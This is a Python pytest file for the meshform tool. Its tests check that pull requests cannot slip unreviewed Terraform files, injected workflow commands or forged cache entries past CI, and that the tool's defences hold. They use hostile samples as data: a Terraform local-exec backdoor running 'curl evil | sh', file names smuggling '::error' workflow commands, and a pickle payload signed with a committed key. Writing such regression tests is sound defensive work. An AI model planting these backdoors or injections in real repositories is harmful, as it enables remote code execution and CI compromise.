"""The pull request is the gate (issue 21, findings 1, 5 and 6): nothing CI applies escapes
review, and no file, name or folder a pull request brings makes meshform do what review
did not see."""

from __future__ import annotations

import hashlib
import hmac
import json
import os
import pickle
import shutil
import stat
import subprocess
from pathlib import Path

import pytest
from test_codeowners_and_scaffold import owners_of
from typer.testing import CliRunner

from meshform.cli import app
from meshform.exit_codes import ExitCode
from meshform.read.gitref import folders_at
from meshform.review.codeowners import render_codeowners
from meshform.validation.validate import validate

from helpers import REPO

BACKDOOR = {
    "resource": {"null_resource": {"x": {"provisioner": [{"local-exec": {"command": "curl evil | sh"}}]}}},
}


def git(root: Path, *args: str) -> str:
    return subprocess.run(
        ["git", "-C", str(root), "-c", "user.name=t", "-c", "user.email=t@example.com", *args],
        check=True,
        capture_output=True,
        text=True,
    ).stdout


def run(*args: str):
    result = CliRunner().invoke(app, list(args))
    assert "Traceback" not in result.output, result.output
    return result


# --- finding 1: foreign files in stack folders ------------------------------------------------


def _add_file(root: Path, name: str) -> None:
    (root / "terraform/stacks/sales" / name).write_text(json.dumps(BACKDOOR))


def _add_link(root: Path, name: str) -> None:
    (root / "terraform/stacks/sales" / name).symlink_to("../../../mesh.yaml")


def _add_folder(root: Path, name: str) -> None:
    (root / "terraform/stacks/sales" / name).mkdir()
    (root / "terraform/stacks/sales" / name / "main.tf").write_text('resource "null_resource" "x" {}\n')


def _replace_by_link(root: Path, name: str) -> None:
    stack = root / "terraform/stacks/sales"
    (root / "elsewhere.json").write_bytes((stack / name).read_bytes())
    (stack / name).unlink()
    (stack / name).symlink_to("../../../elsewhere.json")


FOREIGN = [
    ("zz_backdoor.tf.json", _add_file),  # the red team's file: any resource, a local-exec
    ("cdk_override.tf.json", _add_file),  # merged into cdk.tf.json (deletion_protection = false)
    ("extra.tf", _add_file),
    ("terraform.tfvars", _add_file),
    (".terraform.lock.hcl", _add_file),  # committed: pins providers review never saw
    ("link.tf.json", _add_link),
    ("module", _add_folder),
    ("cdk.tf.json", _replace_by_link),  # the stack file itself a link: Terraform reads the target
]


@pytest.mark.parametrize(("name", "plant"), FOREIGN, ids=[f[0] for f in FOREIGN])
def test_a_pull_request_adding_only_a_foreign_file_fails_every_check(committed_mesh, name, plant):
    """The red team's reproduction: a branch whose only change is a file beside a stack's
    cdk.tf.json. Before, synth said nothing changed, diff --base found no changes, summary
    said "No Terraform changes" and changed listed the stack, so CI applied the file."""
    root = committed_mesh
    plant(root, name)
    git(root, "add", "-A")
    git(root, "commit", "-qm", "only a foreign file")
    shown = f"terraform/stacks/sales/{name}"

    for args in (["synth"], ["diff"], ["diff", "--base", "main"], ["changed", "--base", "main"]):
        result = run(*args, "--root", str(root))
        assert result.exit_code == ExitCode.USAGE, (args, result.output)
        assert shown in result.output and "did not write" in result.output, (args, result.output)
    assert run("changed", "--base", "main", "--json", "--root", str(root)).exit_code == ExitCode.USAGE

    report = run("summary", "--base", "main", "--root", str(root))
    assert report.exit_code == 0, report.output
    text = report.output
    assert f"`{shown}`" in text and "not written by meshform" in text
    assert text.index(shown) < text.index("### "), "the foreign file is named before any section"
    assert "No Terraform changes" not in text
    assert git(root, "status", "--porcelain") == "", "refused: nothing written"


def foreign_files(root: Path, target: Path) -> list[str]:
    from meshform.synth.foreign import foreign_files

    return foreign_files(root, target)


def test_terraform_init_working_files_pass_until_committed(committed_mesh):
    """`terraform init` in a stack folder writes .terraform/ and .terraform.lock.hcl; git
    ignores them in a mesh repository. Untracked they are no foreign files; committed they are."""
    root = committed_mesh
    stack = root / "terraform/stacks/sales"
    (stack / ".terraform/providers").mkdir(parents=True)
    (stack / ".terraform.lock.hcl").write_text("# lock\n")
    assert foreign_files(root, root / "terraform") == []
    git(root, "add", "-f", "terraform/stacks/sales/.terraform.lock.hcl")
    assert foreign_files(root, root / "terraform") == ["terraform/stacks/sales/.terraform.lock.hcl"]


def test_a_stack_folder_named_otherwise_than_a_stack_is_foreign(committed_mesh):
    """A folder name carrying `::` and a newline would print as a workflow command in `changed`."""
    root = committed_mesh
    weird = root / "terraform/stacks/::warning::pwned"
    weird.mkdir()
    (weird / "cdk.tf.json").write_text("{}")
    assert foreign_files(root, root / "terraform") == ["terraform/stacks/::warning::pwned"]
    result = run("changed", "--base", "main", "--root", str(root))
    assert result.exit_code == ExitCode.USAGE
    assert not any(line.startswith("::") for line in result.output.splitlines())


def test_a_linked_stacks_folder_is_foreign(tmp_path):
    out = tmp_path / "out"
    out.mkdir()
    (tmp_path / "real").mkdir()
    (out / "stacks").symlink_to(tmp_path / "real")
    assert foreign_files(tmp_path, out) == ["out/stacks"]


# --- finding 5: who approves what; no impersonation for exception members ----------------------


@pytest.mark.parametrize(
    ("path", "owners"),
    [
        ("domains/marketing/audience_segments.sql", ["@acme/marketing-analytics"]),  # its scheduled SQL
        ("domains/sales/anything.sql", ["@acme/sales-data"]),
        ("terraform/stacks/sales/zz_backdoor.tf.json", ["@acme/data-platform"]),
        ("terraform/stacks/sales/cdk_override.tf.json", ["@acme/data-platform"]),
        ("terraform/stacks/access-sales/zz.tf.json", ["@acme/data-platform"]),
        ("terraform/manifest.json", ["@acme/data-platform"]),
        ("terraform/stacks/sales/cdk.tf.json", []),  # generated: CI checks it is what the specs give
        ("terraform/stacks/access-sales/cdk.tf.json", ["@acme/sales-data"]),  # the producer approves readers
        ("subscriptions/sales/marketing.yaml", ["@acme/sales-data"]),
        ("mesh.yaml", ["@acme/data-platform"]),
        (".github/workflows/meshform-apply.yaml", ["@acme/data-platform"]),
    ],
)
def test_codeowners_covers_every_path_of_the_repository(path, owners):
    assert owners_of(render_codeowners(validate(REPO).mesh), path) == owners


EXCEPTION = """\
exceptions:
  - {policy: iam-member-domains, justification: Contractor group for the migration.}
"""
GRANTED = """\
exceptions:
  - {domain: sales, policy: iam-member-domains, members: [group:sales@other.example],
     customer_ids: [C01abcdef], justification: Migration contractor until 2027.}
"""


def test_exception_members_do_not_act_as_the_pipeline_account(mesh_repo, tmp_path):
    """The pipeline account holds the domain's subscribed reads of other domains' data: an
    outside member let in by an exception must not run jobs as it."""
    from meshform.render import synth

    root = mesh_repo.root
    text = (root / "domains/sales.yaml").read_text()
    text = text.replace(
        "owners: [group:sales-data@acme.com]", "owners: [group:sales-data@acme.com, group:sales@other.example]"
    )
    mesh_repo("domains/sales.yaml", text + EXCEPTION)
    mesh_repo("mesh.yaml", (root / "mesh.yaml").read_text() + GRANTED)
    result = validate(root)
    assert result.ok, [str(f) for f in result.findings]
    synth(result.mesh, tmp_path / "out", only=["sales"])
    stack = json.loads((tmp_path / "out/stacks/sales/cdk.tf.json").read_text())
    acting = {
        body["member"]
        for body in stack["resource"].get("google_service_account_iam_member", {}).values()
        if body["role"] in ("roles/iam.serviceAccountUser", "roles/iam.serviceAccountTokenCreator")
    }
    assert "group:sales-data@acme.com" in acting
    assert "group:sales@other.example" not in acting


# --- finding 6: smaller holes ------------------------------------------------------------------


def test_changed_escapes_file_names_that_would_inject_workflow_commands(committed_mesh):
    root = committed_mesh
    bad = root / "subscriptions/sales/x\n::error title=pwned::merge me.yaml"
    bad.write_text((root / "subscriptions/sales/marketing.yaml").read_text())
    git(root, "add", "-A")
    git(root, "commit", "-qm", "a name with a newline")
    result = run("changed", "--base", "main", "--root", str(root))
    lines = result.output.splitlines()
    assert not any(line.startswith("::") for line in lines), result.output
    assert any("x\\n::error title=pwned::merge me.yaml" in line for line in lines), result.output


def test_folders_at_reads_odd_folder_names_as_they_are(tmp_path):
    root = tmp_path
    for name in ('a"quoted', "new\nline", "ünïcode"):
        (root / "stacks" / name).mkdir(parents=True)
        (root / "stacks" / name / "f").write_text("x")
    git(root, "init", "-q")
    git(root, "add", "-A")
    git(root, "commit", "-qm", "x")
    assert folders_at(root, "HEAD", "stacks") == {'a"quoted', "new\nline", "ünïcode"}


class _Payload:
    def __reduce__(self):
        return (Path.touch, (Path(os.environ["PWNED"]),))


def _forge(folder: Path, key: bytes, kind: str, address: str) -> None:
    body = pickle.dumps(_Payload())
    (folder / kind).mkdir(parents=True, exist_ok=True)
    signature = hmac.new(key, kind.encode() + address.encode() + body, hashlib.sha256).digest()
    (folder / kind / f"{address}.pickle").write_bytes(signature + body)


def test_a_committed_key_with_a_forged_entry_runs_nothing_when_home_is_the_checkout(tmp_path, monkeypatch):
    """The red team's reproduction: HOME is the checkout (some CI jobs), the pull request
    commits .cache/meshform/key and an entry signed with it; reading it unpickled their code."""
    from meshform.cache import Cache

    root = tmp_path / "checkout"
    key = b"k" * 32
    (root / ".cache/meshform").mkdir(parents=True)
    (root / ".cache/meshform/key").write_bytes(key)
    os.chmod(root / ".cache/meshform/key", 0o600)  # even private, it lives in the checkout
    monkeypatch.setenv("PWNED", str(tmp_path / "pwned"))
    _forge(root / ".meshform-cache", key, "domain", "a" * 64)
    monkeypatch.setenv("HOME", str(root))
    monkeypatch.delenv("XDG_CACHE_HOME", raising=False)
    assert Cache(root).get("domain", "a" * 64) is None
    assert not (tmp_path / "pwned").exists()


@pytest.mark.parametrize("problem", ["link", "long", "short", "shared", "linked-folder"])
def test_a_key_that_could_come_from_elsewhere_turns_the_cache_off(tmp_path, monkeypatch, problem):
    from meshform.cache import Cache

    root, user = tmp_path / "mesh", tmp_path / "user-cache"
    root.mkdir()
    monkeypatch.setenv("XDG_CACHE_HOME", str(user))
    key = user / "meshform/key"
    key.parent.mkdir(parents=True)
    planted = tmp_path / "planted"
    planted.write_bytes(b"k" * 32)
    os.chmod(planted, 0o600)
    if problem == "link":
        key.symlink_to(planted)
    elif problem == "linked-folder":
        shutil.rmtree(key.parent)
        (tmp_path / "other").mkdir()
        shutil.copy(planted, tmp_path / "other/key")
        key.parent.symlink_to(tmp_path / "other")
    else:
        key.write_bytes({"long": b"k" * 10_000_000, "short": b"k" * 31, "shared": b"k" * 32}[problem])
        os.chmod(key, 0o644 if problem == "shared" else 0o600)
    cache = Cache(root)
    assert cache.secret is None and not cache.enabled


def test_the_cache_does_not_write_through_a_linked_kind_folder(tmp_path, monkeypatch):
    from meshform.cache import Cache

    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "user-cache"))
    root = tmp_path / "mesh"
    (root / ".meshform-cache").mkdir(parents=True)
    target = tmp_path / "elsewhere"
    target.mkdir()
    (root / ".meshform-cache/domain").symlink_to(target)
    cache = Cache(root)
    assert cache.enabled
    cache.put("domain", "b" * 64, {"x": 1})
    assert list(target.iterdir()) == []
    assert cache.get("domain", "b" * 64) is None


def test_a_fresh_key_is_private_and_exactly_32_bytes(tmp_path, monkeypatch):
    from meshform.cache import Cache

    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "user-cache"))
    (tmp_path / "mesh").mkdir()
    cache = Cache(tmp_path / "mesh")
    key = tmp_path / "user-cache/meshform/key"
    assert cache.enabled and len(key.read_bytes()) == 32 and stat.S_IMODE(key.stat().st_mode) == 0o600
    assert Cache(tmp_path / "mesh").secret == cache.secret


def test_write_atomic_keeps_a_files_mode_and_gives_new_files_the_umask(tmp_path):
    from meshform.files import write_atomic

    existing = tmp_path / "domain.yaml"
    existing.write_text("a")
    os.chmod(existing, 0o664)
    write_atomic(existing, b"b")
    assert stat.S_IMODE(existing.stat().st_mode) == 0o664
    old = os.umask(0o027)
    try:
        write_atomic(tmp_path / "new.yaml", b"c")
    finally:
        os.umask(old)
    assert stat.S_IMODE((tmp_path / "new.yaml").stat().st_mode) == 0o640


def test_add_product_keeps_the_domain_files_mode(mesh_repo):
    root = mesh_repo.root
    os.chmod(root / "domains/sales.yaml", 0o664)
    result = run(
        "add-product",
        "sales",
        "returns",
        "--description",
        "Returned orders, one row per returned item.",
        "--root",
        str(root),
    )
    assert result.exit_code == 0, result.output
    assert "returns" in (root / "domains/sales.yaml").read_text()
    assert stat.S_IMODE((root / "domains/sales.yaml").stat().st_mode) == 0o664


CONTRACT = (REPO / "contracts/customer.customer_profiles.odcs.yaml").read_text()
HOSTILE_CONTRACTS = {
    "latency-inf": (("    value: 26\n", "    value: .inf\n"), "latency"),
    "latency-nan": (("    value: 26\n", "    value: .nan\n"), "latency"),
    "list-property-name": (
        ("  - property: classification\n    value: confidential", "  - property: [a, b]\n    value: x"),
        "classification",
    ),
    "mixed-partition-positions": (
        (
            "      - name: created_at\n",
            "      - name: created_at\n        partitioned: true\n        partitionKeyPosition: two\n"
            "      - name: updated_at\n        partitioned: true\n        partitionKeyPosition: 1\n",
        ),
        "partitionKeyPosition",
    ),
    "items-a-number": (
        (
            "      - name: loyalty_tier\n        logicalType: string",
            "      - name: loyalty_tier\n        logicalType: object\n        items: 5\n        properties: 5",
        ),
        "properties: 5",
    ),
}


@pytest.mark.parametrize("case", sorted(HOSTILE_CONTRACTS))
def test_contract_import_of_hostile_values_is_a_clear_answer(tmp_path, case):
    (old, new), said = HOSTILE_CONTRACTS[case]
    root = tmp_path / "mesh"
    root.mkdir()
    shutil.copy(REPO / "mesh.yaml", root)
    for folder in ("domains", "subscriptions"):
        shutil.copytree(REPO / folder, root / folder)
    assert old in CONTRACT
    contract = tmp_path / "contract.yaml"
    contract.write_text(CONTRACT.replace(old, new, 1))
    result = run("contract", "import", str(contract), "--domain", "customer", "--root", str(root))
    assert result.exit_code in (ExitCode.OK, ExitCode.SPECS), result.output
    assert said in result.output


def test_portal_refuses_a_linked_output_folder(tmp_path):
    target = tmp_path / "real"
    target.mkdir()
    (tmp_path / "site").symlink_to(target)
    for _ in range(2):  # the second build used to rmtree the link: a traceback
        result = run("portal", "--root", str(REPO), "--out", str(tmp_path / "site"))
        assert result.exit_code == ExitCode.USAGE, result.output
        assert "symbolic link" in result.output
    assert list(target.iterdir()) == []
